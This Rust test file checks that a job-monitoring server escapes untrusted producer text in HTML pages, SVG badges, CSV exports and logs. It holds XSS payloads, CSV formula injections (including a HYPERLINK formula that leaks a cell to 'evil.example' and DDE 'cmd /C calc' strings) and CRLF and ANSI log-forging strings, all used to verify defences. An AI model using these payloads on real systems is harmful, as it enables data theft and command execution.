//! Producer text is text in every sink the server writes: page heads and
//! bodies, badges, CSV cells and log lines. Job names, run ids, worker ids,
//! messages and failure reasons come from producers holding the weakest
//! credential there is.

use std::io;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::urlencode;

/// Ends the `<title>` element and starts a script.
const TITLE_BREAK: &str = "</title><script>alert(1)</script>";
/// Ends an attribute and its element.
const ATTR_BREAK: &str = "\"><svg onload=alert(1)>";

fn event(kind: &str, job: &str, run: &str, worker: &str, message: &str, meta: Value) -> Value {
    json!({
        "sourceType": "worker", "level": "error", "eventType": kind, "message": message,
        "jobName": job, "runId": run, "workerId": worker, "metadata": meta,
    })
}

/// Raw markup a producer sent, anywhere in a document.
fn assert_no_producer_markup(backend: &str, what: &str, doc: &str) {
    for raw in ["<script>alert(1)", "<svg onload"] {
        assert!(
            !doc.contains(raw),
            "[{backend}] {what} carries the producer's raw {raw:?}:\n{doc}"
        );
    }
}

/// The `<head>` of a page: one title element, with the producer's text in
/// it as text.
fn head_of<'a>(backend: &str, path: &str, html: &'a str) -> &'a str {
    let start = html
        .find("<head>")
        .unwrap_or_else(|| panic!("[{backend}] {path} has a <head>:\n{html}"));
    let end = html[start..]
        .find("</head>")
        .map(|e| start + e)
        .unwrap_or_else(|| panic!("[{backend}] {path} has a </head>:\n{html}"));
    let head = &html[start..end];
    assert_eq!(
        (
            head.matches("<title>").count(),
            head.matches("</title>").count()
        ),
        (1, 1),
        "[{backend}] {path}: one title element in the head:\n{head}"
    );
    head
}

#[tokio::test]
async fn producer_markup_stays_text_in_page_heads_and_bodies() {
    crate::on_each_backend!("markup_pages", &[], |rig| {
        let job = format!("nightly {TITLE_BREAK}{ATTR_BREAK}");
        let run = format!("run {TITLE_BREAK}");
        let worker = format!("farm {ATTR_BREAK}");
        let reason = format!("disk full {TITLE_BREAK}{ATTR_BREAK}");
        rig.event(event(
            "job.started",
            &job,
            &run,
            &worker,
            &format!("started {ATTR_BREAK}"),
            json!({}),
        ))
        .await;
        rig.event(event(
            "job.failed",
            &job,
            &run,
            &worker,
            &reason,
            json!({ "failure_reason": reason }),
        ))
        .await;
        rig.open_alert(&job, "FAILURE", Duration::from_secs(20))
            .await;

        let job_page = format!("/jobs/{}", urlencode(&job));
        let run_page = format!("/runs/{}", urlencode(&run));
        for path in [
            job_page.as_str(),
            run_page.as_str(),
            "/",
            "/jobs",
            "/runs",
            "/workers",
            "/alerts",
            "/events",
        ] {
            let resp = rig.client.get(rig.url(path)).send().await.expect("page");
            assert_eq!(resp.status(), 200, "[{}] {path}", rig.backend);
            let html = resp.text().await.expect("HTML");
            assert_no_producer_markup(rig.backend, path, &html);
            let head = head_of(rig.backend, path, &html);
            if path == job_page || path == run_page {
                assert!(
                    head.contains("&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
                    "[{}] {path}: the name is in the title, as text:\n{head}",
                    rig.backend
                );
            }
        }
        rig
    });
}

#[tokio::test]
async fn producer_markup_stays_text_in_badges() {
    crate::on_each_backend!("markup_badges", &[], |rig| {
        let job = format!("R&D {TITLE_BREAK}{ATTR_BREAK}");
        rig.event(event("job.started", &job, "r1", "w1", "started", json!({})))
            .await;
        let resp = rig
            .client
            .get(rig.url(&format!("/badge/{}.svg", urlencode(&job))))
            .send()
            .await
            .expect("badge");
        assert_eq!(resp.status(), 200, "[{}] badge", rig.backend);
        let svg = resp.text().await.expect("SVG");
        assert_no_producer_markup(rig.backend, "the badge", &svg);
        assert_eq!(svg.matches("<svg").count(), 1, "[{}] {svg}", rig.backend);
        assert_eq!(svg.matches("<title>").count(), 1, "[{}] {svg}", rig.backend);
        assert!(
            svg.contains(
                "R&amp;D &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;svg"
            ),
            "[{}] the name is in the badge, as text: {svg}",
            rig.backend
        );
        rig
    });
}

#[tokio::test]
async fn producer_formulas_are_text_in_csv_cells() {
    crate::on_each_backend!("markup_csv", &[], |rig| {
        let job = r#"=HYPERLINK("http://evil.example/?leak="&A1,"open me")"#;
        let run = "+1+cmd|' /C calc'!A0";
        let worker = "@SUM(1+1)*cmd|' /C calc'!A0";
        let reason = "-2+3+cmd|' /C calc'!A0";
        let job_type = "\t=1+1";
        rig.event(event(
            "job.started",
            job,
            run,
            worker,
            "started",
            json!({ "job_type": job_type }),
        ))
        .await;
        rig.event(event(
            "job.failed",
            job,
            run,
            worker,
            reason,
            json!({ "failure_reason": reason }),
        ))
        .await;

        let resp = rig
            .request(
                reqwest::Method::GET,
                &format!("/v1/export/runs.csv?job={}", urlencode(job)),
            )
            .send()
            .await
            .expect("export");
        assert_eq!(resp.status(), 200, "[{}] export", rig.backend);
        let text = resp.text().await.expect("CSV");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let columns: Vec<String> = reader
            .headers()
            .expect("header row")
            .iter()
            .map(str::to_owned)
            .collect();
        let rows: Vec<csv::StringRecord> = reader
            .records()
            .collect::<Result<_, _>>()
            .expect("CSV rows");
        assert_eq!(rows.len(), 1, "[{}] {text}", rig.backend);
        let cell = |name: &str| {
            let at = columns.iter().position(|c| c == name).expect(name);
            rows[0][at].to_owned()
        };
        for (column, sent) in [
            ("jobName", job),
            ("runId", run),
            ("workerId", worker),
            ("failureReason", reason),
            ("jobType", job_type),
        ] {
            assert_eq!(
                cell(column),
                format!("'{sent}"),
                "[{}] {column}: a spreadsheet shows it as text",
                rig.backend
            );
        }
        assert_eq!(
            cell("status"),
            "failed",
            "[{}] other cells as they are",
            rig.backend
        );
        rig
    });
}

/// Collects what the server logs on the test's thread, in the human format.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.0
            .lock()
            .map_err(|_| io::Error::other("poisoned"))?
            .extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().expect("log buffer")).into_owned()
    }
}

/// The log is read line by line (journald, `grep`, a terminal): a producer
/// must not be able to end a line and write one that looks like the
/// server's, or colour the operator's terminal.
#[tokio::test]
async fn producer_control_characters_cannot_forge_log_lines() {
    const FORGED: &str = "2026-01-01T00:00:00.000000Z  INFO telltale: all clear";
    let log = Captured::default();
    let writer = log.clone();
    // The server's own human format. Its request handlers run on this
    // (current-thread) runtime, so a default for this thread hears them.
    let subscriber = tracing_subscriber::fmt()
        .fmt_fields(telltale_server::telemetry::OneLine)
        .with_ansi(false)
        .with_env_filter("info,telltale_server=debug")
        .with_writer(move || writer.clone())
        .finish();
    // tracing-core works out once whether a log statement is wanted. While
    // one dispatcher is registered it asks only the default of the thread
    // that runs the statement first: the thread of another test, which
    // has none, and the statement would stay off for this test too. With
    // a second one registered it asks every registered dispatcher.
    let _second = tracing::Dispatch::new(tracing::subscriber::NoSubscriber::default());
    let _logging = tracing::subscriber::set_default(subscriber);

    crate::on_each_backend!("markup_logs", &[], |rig| {
        let job = format!("etl\r\n{FORGED}");
        let run = format!("run\n{FORGED}");
        let reason = format!("disk full\n{FORGED} \x1b[31mred\x1b[0m");
        // Ingest logs each event in a span that names its type (as
        // Display), job, run and worker.
        let kind = format!("note\r\n{FORGED} \x1b[31mred\x1b[0m");
        rig.event(event(&kind, &job, &run, "w1", "a note", json!({})))
            .await;
        rig.event(event(
            "job.failed",
            &job,
            &run,
            "w1",
            &reason,
            json!({ "failure_reason": reason }),
        ))
        .await;
        rig.open_alert(&job, "FAILURE", Duration::from_secs(20))
            .await;
        let text = rig
            .wait_for("the note in the log", Duration::from_secs(10), || {
                let text = log.text();
                async move { text.contains("event_type=note").then_some(text) }
            })
            .await;
        for line in text.lines() {
            assert!(
                !line.starts_with("2026-01-01T00:00:00.000000Z"),
                "[{}] a producer wrote a log line of its own: {line:?}",
                rig.backend
            );
        }
        assert!(
            !text.contains('\r') && !text.contains('\x1b'),
            "[{}] control characters reached the log: {text:?}",
            rig.backend
        );
        assert!(
            text.contains(r"event_type=note\r\n2026") && text.contains(r"\u{1b}[31mred"),
            "[{}] shown escaped: {text}",
            rig.backend
        );
        rig
    });
}
